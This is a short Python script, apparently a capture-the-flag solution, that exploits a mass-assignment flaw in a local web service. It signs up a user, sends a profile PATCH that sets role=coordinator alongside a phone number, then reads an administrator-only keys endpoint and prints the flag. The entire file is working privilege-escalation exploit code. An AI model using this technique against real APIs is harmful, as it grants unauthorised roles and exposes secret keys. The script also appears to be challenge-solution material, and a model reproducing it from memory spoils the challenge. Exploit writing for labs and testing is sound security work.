"""PATCH /api/me copies every field it is sent: send role=coordinator along with a phone."""

import json
import re
import urllib.request

BASE = "http://127.0.0.1:9204"


def call(method: str, path: str, token: str = "", body: dict | None = None) -> str:
    request = urllib.request.Request(
        BASE + path,
        method=method,
        data=json.dumps(body).encode() if body is not None else None,
        headers={"Authorization": f"Bearer {token}", "Content-Type": "application/json"},
    )
    with urllib.request.urlopen(request, timeout=10) as response:
        return response.read().decode()


token = json.loads(call("POST", "/api/signup", body={"username": "eve", "password": "pw"}))["token"]
call("PATCH", "/api/me", token, {"phone": "555-0100", "role": "coordinator"})
print(re.search(r"flag\{[0-9a-f]{32}\}", call("GET", "/api/coordinator/keys", token)).group(0))
